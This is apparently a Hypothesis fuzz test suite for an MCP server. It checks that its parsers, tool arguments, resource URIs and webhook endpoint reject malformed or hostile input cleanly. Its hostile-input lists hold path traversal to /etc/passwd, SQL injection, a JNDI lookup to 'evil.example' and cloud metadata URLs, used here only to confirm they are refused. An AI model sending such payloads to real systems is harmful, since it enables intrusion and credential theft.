"""Property-based tests of every parser and every MCP tool's arguments: no crash, no stack trace, a clear error.

Kept fast on purpose: modest example counts and no deadline, so the suite stays within minutes.
"""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mcp import Client
from mcp.shared.exceptions import MCPError
from mcp_types import INVALID_PARAMS
from starlette.testclient import TestClient

from vigil_mcp.app import App, build_app
from vigil_mcp.config import load_settings
from vigil_mcp.errors import InputError
from vigil_mcp.server import build_server
from vigil_mcp.services.replay import parse_dialogue
from vigil_mcp.services.skills.loader import parse_skill_text
from vigil_mcp.services.tickets import MAX_MESSAGES_PER_TICKET, Incoming
from vigil_mcp.services.tools.loader import load_file
from vigil_mcp.transport.http import http_app
from vigil_mcp.transport.signature import sign
from vigil_mcp.transport.webhook import parse_webhook

WEBHOOK_SECRET = "whsec-fuzz-0123456789abcdef0123"

FAST = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
TRACE_MARKS = ("Traceback (most recent call last)", 'File "/', "site-packages")

HOSTILE_STRINGS = st.sampled_from(
    [
        "",
        " ",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/shadow",
        "vigil://knowledge/../../x",
        "%2e%2e%2f%2e%2e%2f",
        "\x00",
        "\ud7ff\ufffe",
        "a" * 5000,
        "' OR 1=1 --",
        '"; DROP TABLE messages; --',
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "http://169.254.169.254/latest/meta-data/",
        "\u202egnp.exe",
        "NaN",
        "-1",
        "9" * 40,
    ]
)
JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=80),
    HOSTILE_STRINGS,
)
JSON_VALUES = st.recursive(
    JSON_SCALARS, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=12,
)  # fmt: skip


def _nest(depth: int, leaf: Any, as_object: bool) -> Any:
    for _ in range(depth):
        leaf = {"k": leaf} if as_object else [leaf]
    return leaf


# Deep nesting within what the SDK client still serializes; deeper bodies are sent raw (NON_JSON_BODIES).
DEEP_VALUES = st.builds(_nest, st.integers(min_value=20, max_value=200), JSON_SCALARS, st.booleans())
ARGUMENT_VALUES = st.one_of(JSON_VALUES, DEEP_VALUES)
NON_JSON_BODIES = st.one_of(
    st.binary(max_size=400),
    st.text(max_size=200).map(str.encode),
    st.integers(min_value=1_000, max_value=200_000).map(lambda n: b"[" * n + b"]" * n),
    st.integers(min_value=1_000, max_value=60_000).map(lambda n: b'{"a":' * n + b"1" + b"}" * n),
    st.sampled_from([b'{"jsonrpc": "2.0", "id": 3, "method": "tools/list", "params": {"x": "\\udc00"}}',
                     b'{"jsonrpc": "2.0", "id": "\\ud800", "method": "ping"}', b"\xef\xbb\xbf{}", b"", b"null"]),
)  # fmt: skip

SKILL_LINES = st.sampled_from(
    [
        "---",
        "name: endpoint-5xx",
        "name: ../../etc",
        "name: Endpoint_5XX",
        "description: Find why an endpoint answers 5xx.",
        "description: >",
        "description: |+",
        '  "unterminated',
        "  continued text",
        "metadata:",
        "  version: 3",
        "  status: approved",
        "\tname: tab",
        "license: MIT",
        "allowed-tools: Bash(git:*)",
        "# comment",
        "key without colon",
        ": no key",
        "- a list item",
        "{flow: map}",
        "[flow, seq]",
        "# Body heading",
        "\x07 bell",
        "\ufeff",
        "",
    ]
)


@FAST
@given(st.one_of(st.text(max_size=600), st.lists(SKILL_LINES, max_size=14).map("\n".join)))
def test_any_skill_md_text_is_read_or_refused_with_a_problem_never_an_exception(text: str) -> None:
    skill, _, problems = parse_skill_text(text, "endpoint-5xx", "skills/endpoint-5xx/SKILL.md")
    assert skill is not None or problems
    for problem in problems:
        assert str(problem).strip()


TOML_FRAGMENTS = st.sampled_from(
    [
        'title = "T"',
        'description = "Health of a service."',
        'url = "http://127.0.0.1:9/{service}"',
        'url = "file:///etc/passwd"',
        'url = "http://169.254.169.254/{x}"',
        'select = "data.checks"',
        'method = "DELETE"',
        "[query]",
        'verbose = "{verbose}"',
        "[headers]",
        'Authorization = { env = "TOKEN", prefix = "Bearer " }',
        "[parameters.service]",
        'description = "Service name."',
        'pattern = "^[a-z]+$"',
        'pattern = "(a+)+$"',
        'type = "integer"',
        "timeout = -1",
        "[[broken",
        'x = """',
        "unknown_key = 1",
        "",
    ]
)


@pytest.fixture
def tool_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "fuzz-tools"
    folder.mkdir()
    return folder


@FAST
@given(st.one_of(st.text(max_size=400), st.lists(TOML_FRAGMENTS, max_size=16).map("\n".join)))
def test_any_toml_tool_spec_loads_or_is_reported_with_a_problem(tool_dir: Path, text: str) -> None:
    path = tool_dir / "fuzzed.toml"
    path.write_text(text, encoding="utf-8")
    loaded = load_file(path, {})
    assert loaded.tools or loaded.problems
    for problem in loaded.problems:
        assert str(problem).strip()


IDENTIFIERS = st.from_regex(r"[a-z_][a-z0-9_]{0,12}", fullmatch=True)
HINTS = st.sampled_from(["str", "int", "float", "bool", "list[str]", "dict[str, int]", "object", "", "'weird'", "None"])


@FAST
@given(
    st.lists(
        st.tuples(IDENTIFIERS, st.lists(st.tuples(IDENTIFIERS, HINTS), max_size=3), HINTS, st.booleans()), max_size=4
    )
)
def test_any_python_tool_file_loads_or_is_reported_per_function(
    tool_dir: Path, functions: list[tuple[str, list[tuple[str, str]], str, bool]]
) -> None:
    source: list[str] = []
    for name, params, returns, documented in functions:
        args = ", ".join(f"{p}: {h}" if h else p for p, h in params)
        arrow = f" -> {returns}" if returns else ""
        doc = '    """Check something."""\n' if documented else ""
        source.append(f"def {name}({args}){arrow}:\n{doc}    return None\n")
    path = tool_dir / "fuzzed_tools.py"
    path.write_text("\n\n".join(source) or "X = 1\n", encoding="utf-8")
    loaded = load_file(path, {})
    for problem in loaded.problems:
        assert str(problem).strip()


WEBHOOK_FIELDS = st.fixed_dictionaries(
    {},
    optional={
        "event": st.one_of(st.sampled_from(["message", "resolve", "explode"]), JSON_VALUES),
        "ticket_id": JSON_VALUES,
        "role": st.one_of(st.sampled_from(["customer", "analyst", "bot", "wizard"]), JSON_VALUES),
        "author": JSON_VALUES,
        "text": JSON_VALUES,
        "ts": st.one_of(st.sampled_from(["2026-11-03T10:00:00+00:00", "yesterday"]), JSON_VALUES),
        "message_id": JSON_VALUES,
        "resolution_message_ids": JSON_VALUES,
        "colour": JSON_VALUES,
    },
)


@FAST
@given(st.one_of(st.binary(max_size=300), JSON_VALUES.map(lambda v: json.dumps(v).encode()),
                 WEBHOOK_FIELDS.map(lambda v: json.dumps(v).encode())))  # fmt: skip
def test_any_webhook_body_parses_or_is_refused_with_an_input_error(body: bytes) -> None:
    try:
        event, fields = parse_webhook(body)
    except InputError as exc:
        assert str(exc).strip()
        return
    assert event in {"message", "resolve"}
    assert isinstance(fields["ticket_id"], str)


TURNS: st.SearchStrategy[list[dict[str, Any]]] = st.lists(
    st.fixed_dictionaries(
        {},
        optional={
            "role": st.one_of(st.sampled_from(["customer", "agent", "analyst", "bot", "alien"]), JSON_VALUES),
            "author": JSON_VALUES,
            "text": JSON_VALUES,
            "ts": JSON_VALUES,
            "id": JSON_VALUES,
        },
    ),
    max_size=5,
)


@FAST
@given(
    st.one_of(
        JSON_VALUES,
        st.fixed_dictionaries(
            {}, optional={"id": JSON_VALUES, "turns": TURNS, "resolved": JSON_VALUES, "extra": JSON_VALUES}
        ),
    )
)
def test_any_replay_record_parses_or_is_refused_with_a_value_error(record: Any) -> None:
    try:
        dialogue = parse_dialogue(record)
    except ValueError as exc:
        assert str(exc).strip()
        return
    assert dialogue is not None


# ---- every MCP tool's arguments -------------------------------------------------------------------


@pytest.fixture(scope="module")
def fuzz_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    home = tmp_path_factory.mktemp("fuzz-mcp")
    app = build_app(load_settings({"home": str(home)}, environ={"VIGIL_WEBHOOK_SECRET": WEBHOOK_SECRET}))
    app.knowledge.load()
    yield app
    app.close()


def _tool_schemas(app: App) -> dict[str, dict[str, Any]]:
    async def fetch() -> dict[str, dict[str, Any]]:
        async with Client(build_server(app)) as client:
            return {tool.name: tool.input_schema for tool in (await client.list_tools()).tools}

    return anyio.run(fetch)


def _arguments(schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    names = sorted(schema.get("properties", {}))
    optional = {name: ARGUMENT_VALUES for name in names} | {"unexpected": ARGUMENT_VALUES}
    return st.fixed_dictionaries({}, optional=optional)


def _no_trace(text: str) -> None:
    assert text.strip(), "an error with no message"
    for mark in TRACE_MARKS:
        assert mark not in text, text[:500]


def _one_sentence(text: str) -> None:
    """A protocol error a client can show as it is: one line, no pydantic dump, no documentation URL."""
    _no_trace(text)
    assert "\n" not in text, text[:500]
    for mark in ("errors.pydantic.dev", "validation error for", "[type="):
        assert mark not in text, text[:500]


async def _call_all(app: App, calls: list[tuple[str, dict[str, Any]]]) -> None:
    async with Client(build_server(app)) as client:
        for name, arguments in calls:
            try:
                result = await client.call_tool(name, arguments)
            except MCPError as exc:
                assert exc.error.code == INVALID_PARAMS, exc.error
                _one_sentence(exc.error.message)
                continue
            assert "unexpected" not in arguments, f"{name} took an unknown argument"
            text = " ".join(getattr(item, "text", "") for item in result.content)
            if result.is_error:
                _no_trace(text)
                assert "errors.pydantic.dev" not in text, text[:500]


def test_every_tool_s_arguments_fuzzed_get_a_result_or_a_clear_error(
    fuzz_app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_network(*args: Any, **kwargs: Any) -> Any:
        raise OSError("network disabled in this test")

    # Diagnostics must fail fast and stay local: no name resolves, no socket connects.
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    schemas = _tool_schemas(fuzz_app)
    assert {"observe_message", "resolve_ticket", "search_knowledge", "get_skill"} <= set(schemas)
    strategy = st.lists(
        st.sampled_from(sorted(schemas)).flatmap(lambda n: st.tuples(st.just(n), _arguments(schemas[n]))),
        min_size=len(schemas),
        max_size=len(schemas) * 2,
    )

    @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(strategy)
    def check(calls: list[tuple[str, dict[str, Any]]]) -> None:
        anyio.run(_call_all, fuzz_app, calls)

    check()


# ---- oversized input and traversal ----------------------------------------------------------------


@pytest.mark.anyio
async def test_a_one_megabyte_message_is_refused_with_the_limit(app: App) -> None:
    async with Client(build_server(app)) as client:
        with pytest.raises(MCPError, match="the limit is 65,536") as caught:
            await client.call_tool(
                "observe_message", {"ticket_id": "BIG-1", "role": "customer", "author": "c", "text": "x" * 1_000_000}
            )
    _no_trace(str(caught.value))
    assert app.tickets.list() == []


def test_a_ticket_of_ten_thousand_messages_is_stored_in_one_call_and_the_next_is_refused(app: App) -> None:
    turns = [
        Incoming("LONG-1", "customer" if n % 2 == 0 else "analyst", "a", f"message number {n}", None, f"m{n}")
        for n in range(MAX_MESSAGES_PER_TICKET)
    ]
    started = time.monotonic()
    ticket, stored = app.tickets.observe_dialogue(turns, decide=False)
    assert time.monotonic() - started < 30
    assert len(stored) == MAX_MESSAGES_PER_TICKET
    assert [m.seq for m, _, _ in stored] == list(range(1, MAX_MESSAGES_PER_TICKET + 1))
    with pytest.raises(InputError, match="open a new ticket"):
        app.tickets.observe(Incoming(ticket.id, "customer", "a", "one more?", None, "extra"))


def test_a_ten_megabyte_skill_md_is_handled_within_the_skill_size_limit(tmp_path: Path) -> None:
    from vigil_mcp.services.skills.loader import load_skill
    from vigil_mcp.services.skills.model import MAX_BYTES

    folder = tmp_path / "huge"
    folder.mkdir()
    body = ("Check the logs. " * 64 + "\n") * 10_000
    (folder / "SKILL.md").write_text(f"---\nname: huge\ndescription: A very long skill.\n---\n{body}", encoding="utf-8")
    assert 10_000_000 < (folder / "SKILL.md").stat().st_size < MAX_BYTES
    result = load_skill(folder)
    assert result.skill is not None or result.problems
    (folder / "SKILL.md").write_text("---\nname: huge\ndescription: d\n---\n" + "y" * (MAX_BYTES + 1), encoding="utf-8")
    refused = load_skill(folder)
    assert refused.skill is None
    assert any("16 MiB" in str(p) for p in refused.problems)


@pytest.mark.anyio
@pytest.mark.parametrize(
    "uri",
    [
        "vigil://knowledge/../../etc/passwd",
        "vigil://knowledge/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "vigil://tickets/..%2F..%2Fknowledge.duckdb",
        "vigil://tickets/../../etc/passwd/suggestions",
        "file:///etc/passwd",
    ],
)
async def test_resource_uris_that_try_path_traversal_are_refused(app: App, uri: str) -> None:
    async with Client(build_server(app)) as client:
        with pytest.raises(MCPError) as caught:
            await client.read_resource(uri)
    _no_trace(str(caught.value))
    assert "root:" not in str(caught.value)


# ---- raw bodies: the MCP endpoint and the webhook over the real ASGI app ------------------------------


@pytest.fixture(scope="module")
def fuzz_http(fuzz_app: App) -> Iterator[TestClient]:
    with TestClient(http_app(fuzz_app, fuzz_app.settings), base_url="http://127.0.0.1:8765") as client:
        yield client


MCP_HEADERS = {"content-type": "application/json", "accept": "application/json, text/event-stream"}


@FAST
@given(NON_JSON_BODIES)
def test_any_mcp_body_gets_one_json_rpc_error_never_a_server_error(fuzz_http: TestClient, body: bytes) -> None:
    response = fuzz_http.post("/mcp", content=body, headers=MCP_HEADERS)
    assert response.status_code < 500, response.text[:300]
    if response.status_code == 400:
        error = response.json()["error"]
        assert error["code"] in (-32700, -32600, -32602)
        _one_sentence(error["message"])


WEBHOOK_BODIES = st.one_of(
    NON_JSON_BODIES,
    JSON_VALUES.map(lambda v: json.dumps(v).encode()),
    WEBHOOK_FIELDS.map(lambda v: json.dumps(v).encode()),
    st.builds(lambda d, v: json.dumps({"ticket_id": "F-1", "role": "customer", "author": "a", "text": d, "x": v}),
              st.text(max_size=40), DEEP_VALUES).map(str.encode),
)  # fmt: skip
CONTENT_TYPES = st.sampled_from(
    ["application/json", "application/json; charset=utf-8", "text/plain", "application/x-www-form-urlencoded", ""]
)


@FAST
@given(WEBHOOK_BODIES, CONTENT_TYPES)
def test_any_signed_webhook_delivery_is_stored_or_refused_in_one_sentence(
    fuzz_app: App, fuzz_http: TestClient, body: bytes, content_type: str
) -> None:
    before = sum(fuzz_app.tickets.store.activity_counts()[0].values())
    headers = {"content-type": content_type, **sign(WEBHOOK_SECRET, body)}
    response = fuzz_http.post("/webhook/messages", content=body, headers=headers)
    stored = sum(fuzz_app.tickets.store.activity_counts()[0].values()) - before
    assert response.status_code in (200, 201, 400, 404, 413, 415), response.text[:300]
    if response.status_code >= 400:
        _one_sentence(response.json()["error"])
        assert stored == 0
    if not content_type.startswith("application/json"):
        assert response.status_code in (413, 415)  # an oversized body is refused before its headers are read
